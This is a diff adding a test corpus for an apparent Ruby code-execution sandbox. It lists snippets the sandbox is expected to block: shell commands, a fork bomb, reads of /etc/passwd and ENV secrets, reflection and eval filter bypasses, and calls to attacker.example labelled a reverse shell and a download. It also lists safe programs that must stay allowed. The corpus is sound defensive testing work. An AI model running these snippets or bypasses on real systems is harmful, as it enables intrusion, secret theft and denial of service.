@@ -0,0 +1,600 @@
+/**
+ * Ruby Security Attack Vectors
+ *
+ * Ruby reaches the host through Kernel - system, backticks, exec, spawn,
+ * open - and through classes that are ordinary values: File, IO, Dir,
+ * the socket classes. Both can be reached without being named, by
+ * send, method, const_get or eval on a computed string, or by asking an
+ * allowed object for its class. So the corpus carries each way of
+ * naming a thing as well as each thing.
+ *
+ * Each test includes:
+ * - name: Test identifier
+ * - code: The malicious code attempt
+ * - expectBlocked: Whether this should be blocked (true) or allowed (false)
+ * - category: Attack category for grouping
+ * - explanation: Human-readable description of how hackers use this attack
+ */
+
+export const rubyTests = [
+  // ════════════════════════════════════════════════════════════════
+  // COMMAND / PROCESS EXECUTION
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'Ruby: system shell command',
+    code: `system("id")
+puts "done"`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 ATTACK: Shell Command Execution
+
+      How hackers use this:
+      Kernel#system hands a string to /bin/sh. Whatever shell
+      command it names runs with the service's permissions.
+
+      Real-world impact:
+      - Reverse shells and lateral movement
+      - Reading secrets such as SSH keys and tokens
+      - Installing miners or backdoors on the host
+    `,
+  },
+  {
+    name: 'Ruby: backticks',
+    code: `output = \`cat /etc/passwd\`
+puts output`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 ATTACK: Backtick Command Substitution
+
+      How hackers use this:
+      In Ruby, text between backticks is not a string - it is a
+      shell command, and its output comes back as the value. It
+      is the shortest way to run a command in the language.
+    `,
+  },
+  {
+    name: 'Ruby: %x literal',
+    code: `files = %x(ls -la /)
+puts files`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 ATTACK: %x Command Literal
+
+      How hackers use this:
+      %x(...) is backticks written another way, with any
+      delimiter. A filter that only looks for the backtick
+      character misses it.
+    `,
+  },
+  {
+    name: 'Ruby: exec replaces the program',
+    code: `exec("/bin/sh", "-c", "whoami")`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 ATTACK: Process Replacement
+
+      How hackers use this:
+      exec swaps the running Ruby program for another program
+      in the same process. The shell inherits everything the
+      program had.
+    `,
+  },
+  {
+    name: 'Ruby: spawn in the background',
+    code: `pid = spawn("sleep 1000")
+puts pid`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 ATTACK: Background Process
+
+      How hackers use this:
+      spawn starts a command without waiting for it. A process
+      left running after the program ends is a foothold the
+      time limit never sees.
+    `,
+  },
+  {
+    name: 'Ruby: fork bomb',
+    code: `loop { fork { loop {} } }`,
+    expectBlocked: true,
+    category: 'resource_exhaustion',
+    explanation: `
+      🎯 ATTACK: Fork Bomb
+
+      How hackers use this:
+      Every fork doubles the number of processes until the
+      process table is full and the machine stops answering.
+    `,
+  },
+  {
+    name: 'Ruby: IO.popen',
+    code: `IO.popen(["id"]) { |io| puts io.read }`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 ATTACK: Pipe to a Process
+
+      How hackers use this:
+      IO.popen runs a command and connects its output to a
+      stream the program reads. It never calls system.
+    `,
+  },
+  {
+    name: 'Ruby: Open3',
+    code: `require "open3"
+out, status = Open3.capture2("uname -a")
+puts out`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 ATTACK: Open3 Library
+
+      How hackers use this:
+      Open3 is the standard library's convenient wrapper for
+      running commands and capturing their output.
+    `,
+  },
+  {
+    name: 'Ruby: Kernel.system with a receiver',
+    code: `Kernel.system("id")`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 ATTACK: Explicit Kernel Receiver
+
+      How hackers use this:
+      Writing Kernel. in front of system walks past a filter that
+      only looks for the bare method name.
+    `,
+  },
+  {
+    name: 'Ruby: Kernel#open with a pipe',
+    code: `open("|id") { |f| puts f.read }`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 ATTACK: Pipe Through open
+
+      How hackers use this:
+      Kernel#open treats a path that starts with "|" as a
+      command to run. A call that looks like reading a file is
+      really starting a shell.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // REFLECTION AND CODE AS DATA
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'Ruby: send(:system)',
+    code: `Object.new.send(:system, "id")`,
+    expectBlocked: true,
+    category: 'reflection',
+    explanation: `
+      🎯 ATTACK: Calling a Private Method by Name
+
+      How hackers use this:
+      send calls any method, private ones included, by a name
+      that is just data. The word "system" only has to appear
+      as a symbol - or be built from pieces at run time.
+    `,
+  },
+  {
+    name: 'Ruby: method with a computed name',
+    code: `name = ["sys", "tem"].join
+method(name).call("id")`,
+    expectBlocked: true,
+    category: 'reflection',
+    explanation: `
+      🎯 ATTACK: Method Object from a String
+
+      How hackers use this:
+      method(name) turns any name into a callable object. With
+      the name assembled at run time, no dangerous word ever
+      appears in the source.
+    `,
+  },
+  {
+    name: 'Ruby: eval',
+    code: `code = "sys" + "tem('id')"
+eval(code)`,
+    expectBlocked: true,
+    category: 'reflection',
+    explanation: `
+      🎯 ATTACK: Evaluating a String as Code
+
+      How hackers use this:
+      eval runs a string as Ruby. Whatever the policy refuses can
+      be spelled in pieces, joined, and evaluated.
+    `,
+  },
+  {
+    name: 'Ruby: instance_eval with a string',
+    code: `Object.new.instance_eval("\`id\`".reverse.reverse)`,
+    expectBlocked: true,
+    category: 'reflection',
+    explanation: `
+      🎯 ATTACK: instance_eval
+
+      How hackers use this:
+      instance_eval, class_eval and module_eval take a string as
+      well as a block, which makes each of them eval under
+      another name.
+    `,
+  },
+  {
+    name: 'Ruby: binding.irb',
+    code: `x = 1
+binding.irb`,
+    expectBlocked: true,
+    category: 'reflection',
+    explanation: `
+      🎯 ATTACK: Opening a REPL
+
+      How hackers use this:
+      binding.irb starts an interactive Ruby prompt inside the
+      program. Every line typed into the console afterwards runs
+      without passing through the policy.
+    `,
+  },
+  {
+    name: 'Ruby: const_get reaches IO',
+    code: `io = Object.const_get(:IO)
+io.popen("id").read`,
+    expectBlocked: true,
+    category: 'reflection',
+    explanation: `
+      🎯 ATTACK: Looking Up a Class by Name
+
+      How hackers use this:
+      const_get finds any class from a symbol or string, so IO
+      can be reached without ever writing it as a constant.
+    `,
+  },
+  {
+    name: 'Ruby: Marshal.load',
+    code: `data = gets
+obj = Marshal.load(data)`,
+    expectBlocked: true,
+    category: 'deserialization',
+    explanation: `
+      🎯 ATTACK: Unsafe Deserialization
+
+      How hackers use this:
+      Marshal.load rebuilds arbitrary objects from bytes. Known
+      gadget chains in the standard library turn that into
+      running a command.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // FILE SYSTEM
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'Ruby: File.read /etc/passwd',
+    code: `puts File.read("/etc/passwd")`,
+    expectBlocked: true,
+    category: 'file_system',
+    explanation: `
+      🎯 ATTACK: Reading System Files
+
+      How hackers use this:
+      File.read returns a whole file in one call. /etc/passwd,
+      configuration files and other students' work are all a
+      path away.
+    `,
+  },
+  {
+    name: 'Ruby: File.write',
+    code: `File.write("/tmp/payload.rb", "puts :owned")`,
+    expectBlocked: true,
+    category: 'file_system',
+    explanation: `
+      🎯 ATTACK: Writing Files
+
+      How hackers use this:
+      A written file outlives the program: a script dropped for
+      later, a configuration file overwritten, a disk filled.
+    `,
+  },
+  {
+    name: 'Ruby: File held in a variable',
+    code: `f = File
+puts f.readlines("/etc/hostname")`,
+    expectBlocked: true,
+    category: 'file_system',
+    explanation: `
+      🎯 ATTACK: Class Held as a Value
+
+      How hackers use this:
+      A Ruby class is an ordinary object. Assigned to a variable,
+      it is called under a name no filter for "File.read" will
+      ever see - which is why the class itself is refused.
+    `,
+  },
+  {
+    name: 'Ruby: IO reached through $stdin.class',
+    code: `puts $stdin.class.read("/etc/passwd")`,
+    expectBlocked: true,
+    category: 'file_system',
+    explanation: `
+      🎯 ATTACK: Reaching IO Without Naming It
+
+      How hackers use this:
+      $stdin is allowed, and its class is IO. .class gets the
+      class back from any stream, and IO.read opens any path.
+    `,
+  },
+  {
+    name: 'Ruby: Dir listing',
+    code: `puts Dir.entries("/home")`,
+    expectBlocked: true,
+    category: 'file_system',
+    explanation: `
+      🎯 ATTACK: Directory Listing
+
+      How hackers use this:
+      Listing directories is reconnaissance: it tells an
+      attacker which files exist before any are read.
+    `,
+  },
+  {
+    name: 'Ruby: load any file as code',
+    code: `load "/etc/hostname"`,
+    expectBlocked: true,
+    category: 'file_system',
+    explanation: `
+      🎯 ATTACK: Loading a Non-Ruby File
+
+      How hackers use this:
+      load runs any file as Ruby, whatever its extension. When it
+      fails to parse, the syntax error quotes the file's first
+      line back.
+    `,
+  },
+  {
+    name: 'Ruby: ARGV turns gets into a file read',
+    code: `ARGV << "/etc/passwd"
+puts gets`,
+    expectBlocked: true,
+    category: 'file_system',
+    explanation: `
+      🎯 ATTACK: gets Reading a File
+
+      How hackers use this:
+      gets reads from the files named in ARGV before it reads
+      the console. Pushing a path onto ARGV turns the most
+      innocent input call into a file read.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // NETWORK
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'Ruby: TCPSocket reverse shell',
+    code: `require "socket"
+s = TCPSocket.new("attacker.example", 4444)
+s.puts "connected"`,
+    expectBlocked: true,
+    category: 'network',
+    explanation: `
+      🎯 ATTACK: Reverse Shell
+
+      How hackers use this:
+      A socket back to the attacker's machine becomes a remote
+      console once the program reads commands from it.
+    `,
+  },
+  {
+    name: 'Ruby: Net::HTTP',
+    code: `require "net/http"
+puts Net::HTTP.get(URI("http://169.254.169.254/latest/meta-data/"))`,
+    expectBlocked: true,
+    category: 'network',
+    explanation: `
+      🎯 ATTACK: HTTP Request
+
+      How hackers use this:
+      An HTTP request from inside the service reaches addresses
+      a browser never could - cloud metadata endpoints, internal
+      dashboards - and can send data out.
+    `,
+  },
+  {
+    name: 'Ruby: open-uri',
+    code: `require "open-uri"
+puts URI.open("http://attacker.example/").read`,
+    expectBlocked: true,
+    category: 'network',
+    explanation: `
+      🎯 ATTACK: open-uri
+
+      How hackers use this:
+      open-uri makes a URL openable like a file. One require and
+      one call is a complete download.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // ENVIRONMENT AND PROCESS
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'Ruby: ENV secrets',
+    code: `ENV.each { |k, v| puts "#{k}=#{v}" }`,
+    expectBlocked: true,
+    category: 'system_access',
+    explanation: `
+      🎯 ATTACK: Environment Secrets
+
+      How hackers use this:
+      Services keep API keys and passwords in environment
+      variables. ENV is a hash of all of them.
+    `,
+  },
+  {
+    name: 'Ruby: Process.kill',
+    code: `Process.kill("KILL", Process.ppid)`,
+    expectBlocked: true,
+    category: 'system_access',
+    explanation: `
+      🎯 ATTACK: Signalling Other Processes
+
+      How hackers use this:
+      Process.kill sends signals to any process the user owns.
+      Aimed at the parent, it takes down whatever started the
+      program.
+    `,
+  },
+  {
+    name: 'Ruby: trap ignores interrupts',
+    code: `trap("TERM") { puts "not stopping" }
+loop { sleep 1 }`,
+    expectBlocked: true,
+    category: 'signal_handling',
+    explanation: `
+      🎯 ATTACK: Ignoring Termination
+
+      How hackers use this:
+      A program that traps TERM decides for itself whether to
+      stop. Together with an endless loop it outlives the
+      polite way of ending it.
+    `,
+  },
+  {
+    name: 'Ruby: $LOAD_PATH from /tmp',
+    code: `$LOAD_PATH.unshift("/tmp")
+require "payload"`,
+    expectBlocked: true,
+    category: 'system_access',
+    explanation: `
+      🎯 ATTACK: Load Path Injection
+
+      How hackers use this:
+      Changing the load path makes the next require load a file
+      the attacker placed elsewhere, instead of the library it
+      names.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // ENCODING BYPASS
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'Ruby: command hidden in interpolation',
+    code: `puts "#{\`whoami\`}"`,
+    expectBlocked: true,
+    category: 'encoding_bypass',
+    explanation: `
+      🎯 ATTACK: Command Inside a String
+
+      How hackers use this:
+      Ruby runs code inside "#{...}", so a backtick command can
+      hide in what looks like an ordinary printed message. The
+      policy reads the whole source, strings included.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // SAFE CODE (should NOT be blocked)
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'Ruby: Safe print',
+    code: `puts "Hello, World!"`,
+    expectBlocked: false,
+    expectedOutput: 'Hello, World!',
+    category: 'safe_code',
+    explanation: `
+      ✅ SAFE: Basic Output
+
+      puts writes to the console and nothing else. Ordinary
+      programs must keep working.
+    `,
+  },
+  {
+    name: 'Ruby: Safe reading input',
+    code: `print "Name: "
+name = gets&.chomp || "stranger"
+puts "Hi, #{name}"`,
+    expectBlocked: false,
+    category: 'safe_code',
+    explanation: `
+      ✅ SAFE: Reading Input
+
+      gets reads the console. With nothing on ARGV that is all
+      it can read.
+    `,
+  },
+  {
+    name: 'Ruby: Safe classes and blocks',
+    code: `class Door
+  def initialize
+    @open = false
+  end
+
+  def open
+    @open = true
+    self
+  end
+
+  def open?
+    @open
+  end
+end
+
+puts Door.new.open.open?`,
+    expectBlocked: false,
+    expectedOutput: 'true',
+    category: 'safe_code',
+    explanation: `
+      ✅ SAFE: A Method Named open
+
+      A student's own open method, defined and called on their
+      own object, is not Kernel#open and must not be refused.
+    `,
+  },
+  {
+    name: 'Ruby: Safe method references',
+    code: `[3, 1, 2].sort.each(&method(:puts))
+printf("%x\\n", 255)`,
+    expectBlocked: false,
+    category: 'safe_code',
+    explanation: `
+      ✅ SAFE: method(:name) and Format Strings
+
+      method with a literal symbol is ordinary functional style,
+      and %x inside a format string is hexadecimal, not a
+      command.
+    `,
+  },
+  {
+    name: 'Ruby: Safe JSON',
+    code: `require "json"
+data = JSON.parse('{"lang": "ruby", "year": 1995}')
+puts "#{data["lang"]} #{data["year"]}"`,
+    expectBlocked: false,
+    expectedOutput: 'ruby 1995',
+    category: 'safe_code',
+    explanation: `
+      ✅ SAFE: Standard Library Data Formats
+
+      json parses and generates text. It has no I/O of its own.
+    `,
+  },
+  {
+    name: 'Ruby: Safe timing and file names',
+    code: `start = Process.clock_gettime(Process::CLOCK_MONOTONIC)
+name = File.basename("reports/summary.txt", ".txt")
+elapsed = Process.clock_gettime(Process::CLOCK_MONOTONIC) - start
+puts name if elapsed >= 0`,
+    expectBlocked: false,
+    expectedOutput: 'summary',
+    category: 'safe_code',
+    explanation: `
+      ✅ SAFE: Clocks and Path Strings
+
+      Measuring time and taking a path apart are computation.
+      Only the Process and File calls that reach the system
+      are refused.
+    `,
+  },
+];